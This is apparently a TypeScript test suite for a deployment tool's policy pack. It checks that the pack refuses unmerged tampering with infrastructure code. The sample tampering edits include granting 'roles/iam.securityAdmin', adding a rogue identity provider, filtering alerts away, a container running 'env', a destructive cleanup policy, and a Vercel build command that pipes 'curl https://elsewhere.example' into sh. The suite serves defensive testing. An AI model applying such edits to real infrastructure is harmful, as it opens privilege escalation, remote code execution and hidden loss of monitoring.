import assert from "node:assert/strict";
import { z } from "zod";
import { gantry } from "../../support/gantry.ts";
import { gitAs } from "../../support/git-as.ts";
import { rooms, TestProject } from "../../support/project.ts";

const violation = z.object({ rule: z.string(), message: z.string() });
const document = z.object({
  applied: z.boolean(),
  violations: z.array(violation),
  checks: z.array(
    z.object({
      check: z.string(),
      passed: z.boolean(),
      hint: z.string().optional(),
      details: z.object({ programChanges: z.array(violation).default([]) }).optional(),
    }),
  ),
});

/** What somebody changes in the program, and what the base's program says of it: each kept every rule of the pack. */
interface Attempt {
  name: string;
  file: string;
  from: string;
  to: string;
  said: RegExp;
}

const attempts: readonly Attempt[] = [
  {
    name: "a role on the project beside those of the deploy account",
    file: "components/workload-identity.ts",
    from: '"roles/logging.configWriter",',
    to: '"roles/logging.configWriter", "roles/iam.securityAdmin",',
    said: /IAMMember "deploy-production-iam\.securityAdmin" resource is nothing that the program makes/,
  },
  {
    name: "a second provider of identities",
    file: "components/workload-identity.ts",
    from: "const provider = createProvider(this, args, this.pool);",
    to: `const provider = createProvider(this, args, this.pool);
    new WorkloadIdentityPoolProvider("other", {
      project, workloadIdentityPoolId: identityPoolId, workloadIdentityPoolProviderId: "other-actions",
      attributeMapping: { "google.subject": "assertion.sub", "attribute.repository_id": "assertion.repository_id", "attribute.repository_owner_id": "assertion.repository_owner_id", "attribute.environment": "assertion.environment", "attribute.deployment": 'assertion.repository_id + "/" + assertion.environment' },
      attributeCondition: attributeCondition(args.scope.product),
      oidc: { issuerUri: "https://token.actions.githubusercontent.com" }, disabled: false,
    }, { parent: this, protect: true });`,
    said: /WorkloadIdentityPoolProvider "other" resource is nothing that the program makes/,
  },
  {
    name: "a subscription that filters every alert away",
    file: "components/alert-channel.ts",
    from: "ackDeadlineSeconds: 30,",
    to: "ackDeadlineSeconds: 30, filter: 'attributes.x = \"y\"',",
    said: /filter is "attributes\.x = \\"y\\"", and nothing in the program sets it/,
  },
  {
    name: "a metric that counts nothing",
    file: "components/guardrail-alerts.ts",
    from: "name: guardrail.id,",
    to: "name: guardrail.id, disabled: true,",
    said: /Metric ".+" disabled is true, and nothing in the program sets it/,
  },
  {
    name: "a container beside the app's own, and a command",
    file: "components/cloud-run-template.ts",
    from: "    containers: [\n      {",
    to: "    containers: [\n      { name: 'helper', image: mirroredImage(image, scope, region), commands: ['sh', '-c', 'env'] },\n      {",
    said: /template\.containers\[1\] is an object, and nothing in the program sets it/,
  },
  {
    name: "times to wait that nobody agreed to",
    file: "components/deployment-surface-cloud-run.ts",
    from: "protect: deletionProtection,",
    to: "protect: deletionProtection, customTimeouts: { create: '5h' },",
    said: /Service ".+" customTimeouts is timeouts, and nothing in the program sets it/,
  },
  {
    name: "a secret whose versions end by themselves",
    file: "components/secret-credential-set.ts",
    from: "topics: [{ name: topic.topicName }],",
    to: "topics: [{ name: topic.topicName }], versionDestroyTtl: '86400s',",
    said: /versionDestroyTtl is .+, and nothing in the program sets it/,
  },
  {
    name: "a rotation that no ledger has",
    file: "components/secret-credential-set.ts",
    from: "const { secret, scope, lastRotatedAt } = args;",
    to: `const { secret, scope } = args; const lastRotatedAt = "${new Date(Date.now() - 86_400_000).toISOString()}";`,
    said: /SecretCredentialSet ".+" lastRotatedAt is .+, and nothing in the program sets it/,
  },
  {
    name: "a project at Vercel whose sources are for everybody, and that builds something else",
    file: "components/deployment-surface-vercel.ts",
    from: "vercelAuthentication: {",
    to: "publicSource: true, buildCommand: 'curl https://elsewhere.example | sh', vercelAuthentication: {",
    said: /publicSource is true, and nothing in the program sets it/,
  },
  {
    name: "a mirror that is cleaned up",
    file: "components/image-mirror.ts",
    from: 'format: "DOCKER",',
    to: 'format: "DOCKER", cleanupPolicyDryRun: false, cleanupPolicies: [{ id: "all", action: "DELETE", condition: { olderThan: "1d" } }],',
    said: /cleanupPolicies is a list, and nothing in the program sets it/,
  },
];

/** A repository whose default branch has the program of this checkout; each attempt changes it, on a branch of its own. */
describe("a program that was changed", () => {
  let project: TestProject;
  before(async () => {
    project = new TestProject();
    for (const name of [...rooms, "package-lock.json"]) project.copy(name);
    project.write(".gitignore", ".gantry\nnode_modules\n");
    await git("init", "--quiet", "--initial-branch=main");
    await git("add", ".");
    await git("commit", "--quiet", "-m", "the base");
    await git("checkout", "--quiet", "-b", "change");
  });
  const git = (...args: string[]) => gitAs(project.root, args);
  const up = async (...more: string[]) => {
    const ran = await gantry(project, ["up", "production", "--local", "--yes", "--json", ...more]);
    return { ...ran, document: document.parse(JSON.parse(ran.stdout)) };
  };
  const undo = () => git("checkout", "--quiet", "--force", "change");

  describe("is refused in production, which each of these alone would be", () => {
    let said: string;
    before(async () => {
      await undo();
      for (const { file, from, to } of attempts) project.edit(file, from, to);
      const { exitCode, stdout, stderr, document } = await up();
      assert.deepEqual([exitCode, document.applied, document.violations], [3, false, []], stdout + stderr);
      const [check] = document.checks;
      assert.deepEqual([check?.check, check?.passed], ["base pack", false]);
      assert.match(check?.hint ?? "", /merge it first/);
      said = (check?.details?.programChanges ?? []).map(({ message }) => message).join("\n");
    });
    for (const attempt of attempts)
      it(attempt.name, () => {
        assert.match(said, attempt.said);
      });
  });

  describe("that was merged by nobody", () => {
    it("is applied to production on the local cloud alone, and where somebody says so", async () => {
      const [attempt] = attempts;
      if (attempt === undefined) throw new Error("there is no attempt");
      await undo();
      project.edit(attempt.file, attempt.from, attempt.to);
      const refused = await gantry(project, ["up", "production", "--yes", "--changed-program"]);
      assert.equal(refused.exitCode, 2);
      assert.match(refused.stderr, /--changed-program is for the local cloud/);
      const ran = await up("--changed-program");
      assert.equal(ran.exitCode, 0, ran.stdout + ran.stderr);
      assert.equal(ran.document.checks[0]?.details?.programChanges.length, 1);
    });
  });
});

/** The pack runs the program that lies beside it: what the engine's run of it does besides is nothing that it makes. */
describe("a program that is another where the engine runs it", () => {
  let project: TestProject;
  before(() => {
    project = new TestProject();
    project.copy("stacks");
  });
  const violations = async () => {
    const ran = await gantry(project, ["up", "staging", "--local", "--yes", "--json"]);
    assert.equal(ran.exitCode, 3, ran.stdout + ran.stderr);
    const { applied, violations: found } = document.parse(JSON.parse(ran.stdout));
    assert.equal(applied, false);
    return found.map(({ rule, message }) => `${rule} ${message}`).join("\n");
  };

  it("is refused everywhere: it changes what a component says of itself, and adds what it likes", async () => {
    project.edit(
      "stacks/index.ts",
      "    return await stackProgram(",
      `    pulumi.runtime.registerStackTransformation(({ type, name, props, opts }) =>
      type === "gantry:index:DeploymentSurface" && name === "ocr-worker"
        ? { props: { ...props, concurrencyLimit: 7 }, opts }
        : type === "gcp:pubsub/topic:Topic" ? { props, opts: { ...opts, retainOnDelete: true } } : undefined,
    );
    return await stackProgram(`,
    );
    const said = await violations();
    assert.match(said, /require-expected-plan.+DeploymentSurface "ocr-worker" concurrencyLimit is 7, where/);
    assert.match(said, /disallow-retained-resources.+Topic "secret-rotation" has retainOnDelete/);
  });
});
